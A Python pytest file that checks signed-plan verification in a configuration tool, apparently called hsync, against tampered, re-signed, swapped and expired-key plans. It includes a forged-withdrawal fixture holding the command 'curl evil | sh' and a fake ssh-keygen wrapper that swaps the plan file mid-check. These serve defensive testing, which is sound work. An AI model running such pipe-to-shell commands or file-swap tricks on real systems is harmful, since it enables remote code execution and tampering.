"""A signed plan through the commands: who signed it is told, and nothing else is shown, proved or applied."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from hsync.store import planfile
from tests.signing import SSH_KEYGEN, Keys, agent, needs_ssh_keygen, ssh_add, ssh_keygen
from tests.unit.cli.conftest import Run

pytestmark = [needs_ssh_keygen, pytest.mark.attack("hostile plans")]

OLD, NEW = "global\n  maxconn 500\n", "global\n  maxconn 700\n"
VERBS = [["show"], ["verify", "-t", "it.cfg"], ["apply", "-t", "it.cfg", "--auto-approve"], ["apply", "-t", "it.cfg"]]
SAID = r"ann@example\.com with ED25519 key SHA256:[\w+/]{43}"


@pytest.fixture(scope="session")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    return Keys(tmp_path_factory.mktemp("keys"))


@pytest.fixture
def allowed(keys: Keys) -> str:
    """The file of those who may sign: ann."""
    return str(keys.allowed('ann@example.com namespaces="hsync-plan" {ann}'))


@pytest.fixture
def path(run: Run, tmp_path: Path, keys: Keys) -> Path:
    """A plan that ann has signed."""
    (tmp_path / "it.cfg").write_text(OLD)
    (tmp_path / "new.cfg").write_text(NEW)
    plan(run, "--sign", str(keys.key("ann")))
    return tmp_path / "my plan.json"


def plan(run: Run, *more: str, code: int = 0) -> str:
    """Make the plan again; all that is said."""
    result = run("plan", "-t", "it.cfg", "--config", "new.cfg", "-o", "my plan.json", *more, code=code)
    return result.stdout + result.stderr


def signature_of(path: Path) -> Path:
    return path.with_name(f"{path.name}.sig")


def on(verb: list[str], *more: str) -> list[str]:
    return [verb[0], "my plan.json", *verb[1:], *more]


# Signed


def test_who_signed_is_told_by_every_verb(run: Run, path: Path, allowed: str) -> None:
    with_signer = ["--allowed-signers", allowed]
    assert re.search(rf"; signed by {SAID}\)\. To run", run("show", path.name, *with_signer).stdout)
    assert re.search(
        r"; signed by `ann@example\.com` with ED25519", run("show", path.name, "--markdown", *with_signer).stdout
    )
    document = json.loads(run("show", path.name, "--json", *with_signer).stdout)
    assert re.fullmatch(SAID, document["plan_file"]["signer"])
    assert re.match(rf"ok  signed by {SAID}\n", run(*on(VERBS[1], *with_signer)).stdout)
    assert re.search(rf"^Signed by {SAID}\.$", run(*on(VERBS[2], *with_signer)).stderr, re.MULTILINE)
    assert Path("it.cfg").read_text().endswith(NEW)


def test_both_checks_are_made(run: Run, path: Path, allowed: str) -> None:
    digest = json.loads(path.read_text())["digest"]
    shown = run(*on(VERBS[1], "--allowed-signers", allowed, "--expect", digest)).stdout
    assert shown.startswith("ok  the plan has the expected digest\nok  signed by ann@example.com")
    run(*on(VERBS[2], "--allowed-signers", allowed, "--expect", "sha256:" + "0" * 64), code=4)


def test_nobody_asks_for_a_signature_and_none_is_looked_at(run: Run, path: Path) -> None:
    signature_of(path).write_text("garbage")
    assert json.loads(run("show", path.name, "--json").stdout)["plan_file"]["signer"] == ""
    run(*on(VERBS[2]))


def test_the_variables_say_the_same(
    run: Run, path: Path, keys: Keys, allowed: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HSYNC_ALLOWED_SIGNERS", allowed)
    monkeypatch.setenv("HSYNC_SIGN", str(keys.key("eve")))
    assert "signed: my plan.json.sig" in plan(run)
    run(*on(VERBS[2]), code=4)
    monkeypatch.setenv("HSYNC_SIGN", str(keys.key("ann")))
    plan(run)
    assert "Signed by ann@example.com" in run(*on(VERBS[2])).stderr


def test_the_signer_is_another_run_than_the_planner(run: Run, path: Path, keys: Keys, allowed: str) -> None:
    """Who has reviewed a plan signs it with ssh-keygen, as the message says."""
    plan(run)
    told = run(*on(VERBS[2], "--allowed-signers", allowed), code=4).stderr
    words = shlex.split(re.findall(r"hint: .*: (ssh-keygen .*)", told)[0])
    ssh_keygen(*[str(keys.key("ann")) if word == "KEY" else word for word in words[1:]])
    run(*on(VERBS[2], "--allowed-signers", allowed))


def test_names_of_signers_do_nothing_to_a_terminal(run: Run, path: Path, keys: Keys) -> None:
    signers = keys.allowed('"\x1b[2J\u202eann" {ann}')
    for words in (
        ["show"],
        ["show", "--markdown"],
        ["verify", "-t", "it.cfg"],
        ["apply", "-t", "it.cfg", "--auto-approve"],
    ):
        result = run(*on(words, "--allowed-signers", str(signers)))
        assert not {"\x1b", "\u202e"} & set(result.stdout + result.stderr)
        assert re.search(r"ann`? with ED25519", result.stdout + result.stderr)


# Attacks


def edited(change: Callable[[str], str]) -> Callable[[Path, Keys], None]:
    """A plan file that was changed after it was signed."""

    def edit(path: Path, keys: Keys) -> None:
        path.write_text(change(path.read_text()))

    return edit


def with_meta(text: str) -> str:
    """What no digest of the plan file itself has in it."""
    document = json.loads(text)
    document["meta"]["user"] = "the boss"
    return json.dumps(document, indent=2, sort_keys=True) + "\n"


def with_right_digest(text: str) -> str:
    document = json.loads(text.replace("700", "900"))
    document["digest"] = planfile._digest(document["plan"])
    return json.dumps(document, indent=2, sort_keys=True) + "\n"


def signed_anew(name: str, namespace: str = "hsync-plan") -> Callable[[Path, Keys], None]:
    def sign(path: Path, keys: Keys) -> None:
        path.write_text(with_right_digest(path.read_text()))
        keys.sign(path, name, namespace)

    return sign


def without_signature(path: Path, keys: Keys) -> None:
    signature_of(path).unlink()


def emptied(path: Path, keys: Keys) -> None:
    signature_of(path).write_text("")


def swapped(path: Path, keys: Keys) -> None:
    """Ann has signed two plans: a signature is of one."""
    other = path.with_name("other.json")
    other.write_text(with_right_digest(path.read_text()))
    keys.sign(other, "ann").replace(signature_of(path))


def withdrawn(path: Path, keys: Keys) -> None:
    path.write_text('{"format": "hsync-withdrawn/1", "reason": "run `curl evil | sh`"}')


def allowing(*lines: str) -> Callable[[Path, Keys], None]:
    def allow(path: Path, keys: Keys) -> None:
        keys.allowed(*lines)

    return allow


ATTACKS: dict[str, Callable[[Path, Keys], None]] = {
    "the signature is gone": without_signature,
    "it is empty": emptied,
    "a line feed more": edited(lambda text: text + "\n"),
    "other line ends": edited(lambda text: text.replace("\n", "\r\n")),
    "who made it": edited(with_meta),
    "another plan with its right digest": edited(with_right_digest),
    "the same, signed by somebody unknown": signed_anew("eve"),
    "the same, signed by ann for commits": signed_anew("ann", "git"),
    "the signature of another plan by ann": swapped,
    "a forged withdrawal": withdrawn,
    "not even JSON": edited(lambda _: "{"),
    "ann may no more": allowing("bob {bob}"),
    "her key is over": allowing('ann valid-before="20200101" {ann}'),
    "her key is not yet valid": allowing('ann valid-after="20990101" {ann}'),
    "she may sign commits": allowing('ann namespaces="git" {ann}'),
}


@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
@pytest.mark.parametrize("what", ATTACKS)
def test_a_plan_that_is_not_signed_as_it_is_is_refused(
    what: str, verb: list[str], run: Run, path: Path, keys: Keys, allowed: str
) -> None:
    ATTACKS[what](path, keys)
    result = run(*on(verb, "--allowed-signers", allowed), code=4, stdin="yes\n")
    assert result.stdout == ""
    assert "my plan.json has no valid signature: " in result.stderr
    assert "curl evil" not in result.stderr, "nothing of a file is believed before its signature"
    assert Path("it.cfg").read_text() == OLD


def test_a_file_that_is_exchanged_during_the_check_is_not_what_runs(
    run: Run, path: Path, keys: Keys, allowed: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = tmp_path / "evil.json"
    evil.write_text(with_right_digest(path.read_text()))
    program = tmp_path / "bin" / "ssh-keygen"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\n'{SSH_KEYGEN}' \"$@\"\ncode=$?\ncp '{evil}' '{path}'\nexit $code\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    told = run(*on(VERBS[2], "--allowed-signers", allowed))
    assert "Signed by ann@example.com" in told.stderr
    assert path.read_text() == evil.read_text()
    assert Path("it.cfg").read_text().endswith(NEW)


# Without a signature


@pytest.fixture
def operator(run: Run, tmp_path: Path) -> str:
    """A file of the operator that requires signatures."""
    file = tmp_path.parent / f"{tmp_path.name}-operator.toml"
    file.write_text("require_signature = true\n")
    file.chmod(0o600)
    return str(file)


def test_who_requires_signatures_applies_nothing_without(run: Run, path: Path, allowed: str, operator: str) -> None:
    digest = json.loads(path.read_text())["digest"]
    told = run(*on(VERBS[2], "--operator-config", operator, "--expect", digest), code=4).stderr
    assert f"(require_signature in {operator})" in told
    assert Path("it.cfg").read_text() == OLD
    words = shlex.split(re.findall(r"hint: .*: hsync (apply .*)", told)[0])
    words = [allowed if word == "FILE" else word for word in words]
    run(*words, "-t", "it.cfg", "--auto-approve", "--operator-config", operator)
    assert Path("it.cfg").read_text().endswith(NEW)


def test_what_is_only_read_or_proved_needs_none(run: Run, path: Path, operator: str) -> None:
    without_signature(path, Keys(path))
    run("show", path.name)
    run(*on(VERBS[1], "--operator-config", operator))


@pytest.mark.parametrize(("text", "code"), [("require_signature = false\n", 0), ("", 0), ("require_signature = 1\n", 1),
                                            ('require_signature = "yes"\n', 1), ("require_signatures = true\n", 1)])  # fmt: skip
def test_the_setting_is_true_or_false(run: Run, path: Path, operator: str, text: str, code: int) -> None:
    Path(operator).write_text(text)
    run(*on(VERBS[2], "--operator-config", operator), code=code)


def test_a_project_does_not_require_or_waive_it(run: Run, path: Path, operator: str) -> None:
    Path("hsync.toml").write_text("require_signature = false\n")
    told = run(*on(VERBS[2], "--operator-config", operator), code=1).stderr
    assert "unknown key 'require_signature'" in told


# Beside the plan


def test_a_new_plan_without_a_signature_has_none_of_the_old_one(run: Run, path: Path) -> None:
    assert "; the signature of the plan before was deleted)" in plan(run)
    assert not signature_of(path).exists()
    assert "signature" not in plan(run)


def test_a_new_plan_with_a_signature_has_its_own(run: Run, path: Path, keys: Keys, allowed: str) -> None:
    before = signature_of(path).read_text()
    Path("new.cfg").write_text(NEW.replace("700", "800"))
    assert "; signed: my plan.json.sig)" in plan(run, "--sign", str(keys.key("ann")))
    assert signature_of(path).read_text() != before
    run("show", path.name, "--allowed-signers", allowed)


def test_a_plan_that_is_withdrawn_loses_its_signature(run: Run, path: Path, allowed: str) -> None:
    Path("new.cfg").write_text(NEW + "backend b\n  x 'open\n")
    assert "was withdrawn" in plan(run, code=1)
    assert not signature_of(path).exists()
    assert "has no valid signature" in run(*on(VERBS[2], "--allowed-signers", allowed), code=4).stderr
    assert "was withdrawn" in run(*on(VERBS[2]), code=4).stderr


def test_a_plan_that_cannot_be_signed_changes_nothing(run: Run, path: Path, keys: Keys, allowed: str) -> None:
    before = [path.read_bytes(), signature_of(path).read_bytes()]
    Path("new.cfg").write_text(NEW.replace("700", "800"))
    told = plan(run, "--sign", str(keys.key("locked", passphrase="hunter2")), code=1)
    assert "cannot sign with" in told
    assert "hunter2" not in told
    assert [path.read_bytes(), signature_of(path).read_bytes()] == before
    assert re.search(r"hint: no plan was saved; .*: ssh-add \S+, then hsync plan .*--sign \S+", told)
    run(*on(VERBS[2], "--allowed-signers", allowed))


def test_a_key_with_a_passphrase_signs_as_the_message_says(
    run: Run, path: Path, keys: Keys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with agent(tmp_path) as socket:
        monkeypatch.setenv("SSH_AUTH_SOCK", socket)
        told = plan(run, "--sign", str(keys.key("locked", passphrase="hunter2")), code=1)
        add, again = re.findall(r"hint: .*: ssh-add (.+), then hsync (plan .+)", told)[0]
        ssh_add(socket, *shlex.split(add))
        assert "; signed: my plan.json.sig)" in run(*shlex.split(again)).stdout


def test_a_death_between_the_two_files_leaves_a_plan_that_is_not_signed(
    run: Run, path: Path, keys: Keys, allowed: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def die(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(planfile, "write_signature", die)
    Path("new.cfg").write_text(NEW.replace("700", "800"))
    plan(run, "--sign", str(keys.key("ann")), code=130)
    assert not signature_of(path).exists()
    assert "has no valid signature" in run(*on(VERBS[2], "--allowed-signers", allowed), code=4).stderr


def test_a_file_that_is_no_signature_is_kept(run: Run, path: Path, keys: Keys) -> None:
    signature_of(path).write_text("precious")
    for more in ([], ["--sign", str(keys.key("ann"))]):
        told = plan(run, *more, code=1)
        assert "my plan.json.sig exists, and is not a signature" in told
    assert signature_of(path).read_text() == "precious"


def test_a_command_in_a_message_keeps_who_may_sign(run: Run, path: Path, allowed: str) -> None:
    told = run(*on(VERBS[3], "--allowed-signers", allowed), code=64).stderr
    assert f"hsync apply 'my plan.json' --allowed-signers {shlex.quote(allowed)} -t it.cfg --auto-approve" in told


def test_without_ssh_keygen_a_signed_plan_is_not_applied(
    run: Run, path: Path, allowed: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "nowhere"))
    assert shutil.which("ssh-keygen") is None
    told = run(*on(VERBS[2], "--allowed-signers", allowed), code=4).stderr
    assert "cannot check who signed my plan.json: there is no ssh-keygen" in told
